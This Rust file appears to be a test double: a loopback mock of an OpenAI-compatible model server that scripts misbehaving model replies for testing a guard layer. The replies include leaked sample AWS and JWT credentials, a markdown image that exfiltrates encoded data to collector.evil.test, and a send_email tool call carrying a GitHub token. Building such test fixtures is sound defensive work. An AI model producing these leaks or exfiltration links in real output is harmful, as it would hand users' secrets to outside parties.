//! A scripted OpenAI-compatible upstream on loopback: a test double for
//! model behaviour that a small real model cannot be made to produce on
//! demand (a leaked key, a rendered image link, tool calls). It records
//! every request it receives, so tests can see what the model was sent.
//!
//! Replies, by the last user message:
//! - `leak-key` → text holding an AWS key and a JWT;
//! - `leak-image` → text holding a markdown image on a remote host;
//! - `say-blocked` → text holding the word `forbidden-topic`;
//! - `call-tool` → a tool call `send_email` whose arguments hold a GitHub token;
//! - a message starting `Result of `, `The call to ` or `The tool ` (what an
//!   agent run feeds back after a tool call) → `{"final": "Done: <message>"}`;
//! - `hang-once` → the first such request never gets an answer (a model
//!   stuck when the server is killed), later ones `{"final": "Answered after the restart."}`;
//! - anything else → the message itself (an echo), which lets a test play
//!   an agent's planner by sending the step it wants as the message.
//!
//! Streams send the text three bytes per chunk, so anything sensitive is
//! split across chunks.

use std::sync::{Arc, Mutex};

use axum::Json;
use axum::extract::State;
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use serde_json::{Value, json};

pub const LEAKED_KEY: &str = "AKIAIOSFODNN7EXAMPLE";
pub const LEAKED_JWT: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";

#[derive(Clone, Default)]
pub struct Upstream {
    pub base: String,
    received: Arc<Mutex<Vec<Value>>>,
    hung: Arc<std::sync::atomic::AtomicBool>,
}

impl Upstream {
    pub async fn start() -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        let up = Upstream {
            base: format!("http://{addr}/v1"),
            received: Arc::default(),
            hung: Arc::default(),
        };
        let app = axum::Router::new()
            .route("/v1/chat/completions", post(completions))
            .with_state(up.clone());
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        up
    }

    /// Every request body received so far.
    pub fn received(&self) -> Vec<Value> {
        self.received.lock().map(|v| v.clone()).unwrap_or_default()
    }

    /// `warden.toml` text declaring this upstream as model `scripted`.
    pub fn model_config(&self) -> String {
        format!(
            "[[models]]\nbackend = \"openai\"\nid = \"scripted\"\nbase_url = \"{}\"\n",
            self.base
        )
    }
}

fn reply_for(last_user: &str) -> (String, Option<Value>) {
    match last_user.trim() {
        "leak-key" => (
            format!("Sure. The key is {LEAKED_KEY} and the token is {LEAKED_JWT} - keep them safe."),
            None,
        ),
        "leak-image" => (
            "Here is your chart ![chart](https://collector.evil.test/p.png?d=c2VjcmV0) as requested.".into(),
            None,
        ),
        "say-blocked" => ("Let us talk about the forbidden-topic now, in detail.".into(), None),
        "call-tool" => (
            String::new(),
            Some(json!([{
                "id": "call_1",
                "type": "function",
                "function": {
                    "name": "send_email",
                    "arguments": "{\"to\":\"a@example.com\",\"token\":\"ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789\"}"
                }
            }])),
        ),
        other if ["Result of ", "The call to ", "The tool "].iter().any(|p| other.starts_with(p)) => {
            let first_line = other.lines().next().unwrap_or_default();
            (json!({"final": format!("Done: {first_line}")}).to_string(), None)
        }
        other => (other.to_owned(), None),
    }
}

async fn completions(State(up): State<Upstream>, Json(body): Json<Value>) -> Response {
    if let Ok(mut r) = up.received.lock() {
        r.push(body.clone());
    }
    let last_user = body["messages"]
        .as_array()
        .and_then(|m| m.iter().rev().find(|m| m["role"] == "user"))
        .and_then(|m| m["content"].as_str())
        .unwrap_or_default()
        .to_owned();
    if last_user.trim() == "hang-once" {
        if !up.hung.swap(true, std::sync::atomic::Ordering::SeqCst) {
            std::future::pending::<()>().await;
        }
        let text = json!({"final": "Answered after the restart."}).to_string();
        return reply(&body, text, None);
    }
    let (text, tool_calls) = reply_for(&last_user);
    reply(&body, text, tool_calls)
}

fn reply(body: &Value, text: String, tool_calls: Option<Value>) -> Response {
    let finish = if tool_calls.is_some() {
        "tool_calls"
    } else {
        "stop"
    };
    let usage = json!({"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15});
    if body["stream"] != json!(true) {
        let mut message = json!({"role": "assistant", "content": text});
        if let Some(calls) = tool_calls {
            message["tool_calls"] = calls;
            message["content"] = Value::Null;
        }
        return Json(json!({
            "id": "chatcmpl-scripted", "object": "chat.completion", "created": 0, "model": "scripted",
            "choices": [{"index": 0, "message": message, "finish_reason": finish}],
            "usage": usage,
        }))
        .into_response();
    }
    let chunk = |delta: Value, finish: Value| {
        json!({
            "id": "chatcmpl-scripted", "object": "chat.completion.chunk", "created": 0, "model": "scripted",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        })
    };
    let mut events = vec![chunk(
        json!({"role": "assistant", "content": ""}),
        Value::Null,
    )];
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let mut j = (i + 3).min(bytes.len());
        while !text.is_char_boundary(j) {
            j += 1;
        }
        events.push(chunk(json!({"content": &text[i..j]}), Value::Null));
        i = j;
    }
    if let Some(calls) = tool_calls {
        let calls: Vec<Value> = calls
            .as_array()
            .into_iter()
            .flatten()
            .enumerate()
            .map(|(i, c)| {
                let mut c = c.clone();
                c["index"] = json!(i);
                c
            })
            .collect();
        events.push(chunk(json!({"tool_calls": calls}), Value::Null));
    }
    events.push(chunk(json!({}), json!(finish)));
    let mut usage_chunk = chunk(json!({}), Value::Null);
    usage_chunk["choices"] = json!([]);
    usage_chunk["usage"] = usage;
    events.push(usage_chunk);
    let mut sse = String::new();
    for e in events {
        sse.push_str(&format!("data: {e}\n\n"));
    }
    sse.push_str("data: [DONE]\n\n");
    ([("content-type", "text/event-stream")], sse).into_response()
}
